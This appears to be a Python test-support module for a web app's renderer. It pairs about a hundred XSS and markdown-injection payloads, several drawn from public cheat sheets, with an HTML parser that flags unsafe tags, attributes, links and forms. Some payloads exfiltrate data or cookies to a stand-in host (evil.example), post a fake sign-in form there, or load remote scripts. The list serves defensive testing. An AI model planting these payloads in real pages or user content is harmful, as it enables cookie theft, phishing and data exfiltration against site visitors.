"""What people and models have written to do harm: each must come out as words, or as nothing."""

from html.parser import HTMLParser

TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "![words out](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/x)",
    "[click](/v1/keys)",
    '[click](https://ok.example "\\" onmouseover=\\"alert(1)")',
    '<https://ok.example/"onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=key><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="position:fixed;inset:0">over everything</p>',
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "</template><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    # OWASP, XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org).
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14; javascript:alert(1);">',
    '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/x.js?< B >",
    '<IMG SRC="`<javascript:alert>`(1)"',
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<BGSOUND SRC="javascript:alert(1);">',
    '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">',
    '<DIV STYLE="background-image: url(https://evil.example/x)">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>X</text></a>",
    # PortSwigger, XSS cheat sheet (portswigger.net/web-security/cross-site-scripting/cheat-sheet).
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<style>@keyframes x{}</style><xss style='animation-name:x' onanimationstart='alert(1)'></xss>",
    "<audio src/onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>X</marquee>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    '<a href="ja&Tab;vascript&colon;alert(1)">x</a>',
    "<button popovertarget=x>Click</button><xss onbeforetoggle=alert(1) popover id=x>X</xss>",
    # Markdown-XSS-Payloads (github.com/cujanovic/Markdown-XSS-Payloads).
    "[a](javascript:prompt(document.cookie))",
    "[a](j a v a s c r i p t:prompt(document.cookie))",
    "[a](javascript:window.onerror=alert;throw%201)",
    "[a](javascript://www.google.com%0Aprompt(1))",
    "[a]('javascript:alert(1)')",
    "[a](data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E)",
    "![a](javascript:prompt(document.cookie)\\)",
    '![a](https://evil.example/?c="onerror="alert(1))',
    '![a]("onerror="alert(1))',
    "<&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)>",
    "[citelol]: (javascript:prompt(document.cookie))",
    "[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)",
    "[a](javascript&colon;alert(1))",
    "[test](javascript://%0d%0aprompt(1);com)",
    "_https://evil.example_ http://<script>alert(1)</script>@x",
    "[XSS](.alert(1);)",
    '<a href="https://evil.example"><img src="https://evil.example/x.png" onload="alert(1)"></a>',
    # Formulas, where a renderer may be asked for links, pictures and classes.
    r"$$\href{javascript:alert(1)}{x}$$",
    r"\(\includegraphics{https://evil.example/x.png}\)",
    r"\[\htmlData{onclick=alert(1)}{x} \url{javascript:alert(1)} \htmlStyle{position:fixed}{x}\]",
    r"$$\text{<img src=x onerror=alert(1)>}$$",
    # Code, whose language becomes a class.
    "```js onerror=alert(1)\nalert(1)\n```",
    "```__proto__\nalert(1)\n```",
    "```constructor\n<svg onload=alert(1)>\n```",
]

HARMLESS_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "main",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "a",
        "article",
        "header",
        "div",
        "blockquote",
        "br",
        "code",
        "em",
        "hr",
        "li",
        "ol",
        "pre",
        "s",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "details",
        "summary",
        "template",
        "script",
        "form",
        "input",
        "label",
        "button",
        "span",
    ]
)


class Judge(HTMLParser):
    """Reads a page as a browser does, and collects what could do something."""

    def __init__(self, own_scripts: bool = False) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._own_scripts = own_scripts

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Look at one tag."""
        named = {name: value or "" for name, value in attributes}
        if tag not in HARMLESS_TAGS:
            self.faults.append(f"<{tag}>")
        if any(name.startswith("on") or name in ("style", "srcdoc", "formaction") for name in named):
            self.faults.append(f"<{tag} {named}>")
        if tag == "script" and not (self._own_scripts and named.get("src", "").startswith("/assets/")):
            self.faults.append(f"<script {named}>")
        if tag == "link" and not named.get("href", "").startswith(("/pages.css", "/assets/", "/app/")):
            self.faults.append(f"<link {named}>")
        if tag == "form" and named.get("action") != "/sign-in":
            self.faults.append(f"<form {named}>")
        if tag == "meta" and "http-equiv" in named:
            self.faults.append(f"<meta {named}>")
        if tag == "a":
            self._judge_link(named)

    def _judge_link(self, named: dict[str, str]) -> None:
        href = named.get("href", "")
        if href.startswith("/s/") or href == "/docs":
            return
        if href and not href.startswith(("https://", "http://", "mailto:")):
            self.faults.append(f"<a {named}>")
        if href and not {"noopener", "noreferrer", "nofollow"} <= set(named.get("rel", "").split()):
            self.faults.append(f"unmarked <a {named}>")


def faults_of(html: str, own_scripts: bool = False) -> list[str]:
    """Return what in a page could do harm."""
    judge = Judge(own_scripts)
    judge.feed(html)
    judge.close()
    return judge.faults
